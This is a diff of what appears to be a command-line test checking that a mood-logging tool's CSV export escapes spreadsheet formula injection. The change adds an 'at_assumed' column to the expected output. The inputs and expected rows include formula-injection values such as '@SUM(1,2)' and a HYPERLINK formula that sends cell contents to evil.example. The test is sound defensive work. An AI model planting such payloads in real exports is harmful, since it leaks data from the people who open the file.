@@ -9,7 +9,7 @@ numbers.
   $ hwk log c-0042 mood --status skipped --reason '@SUM(1,2)' --at 2026-11-21T09:00 > /dev/null
   $ hwk log c-0042 mood --status partial --reason '+call' --set mood=2 --reflect '-fine' --at 2026-11-22T09:00 > /dev/null
   $ hwk export c-0042 --format csv | tr -d '\r' | cut -d, -f8- | sed 's/,,*/,/g'
-  status,reason,reflection,amends,answers,week,quality,record_note,mood,note
-  done,"'=HYPERLINK(""https://evil.example/?""&A2,""click"")",4,'=1+1
-  skipped,"'@SUM(1,2)",
-  partial,'+call,'-fine,2,
+  status,reason,reflection,amends,answers,week,quality,record_note,at_assumed,mood,note
+  done,"'=HYPERLINK(""https://evil.example/?""&A2,""click"")",false,4,'=1+1
+  skipped,"'@SUM(1,2)",false,
+  partial,'+call,'-fine,false,2,
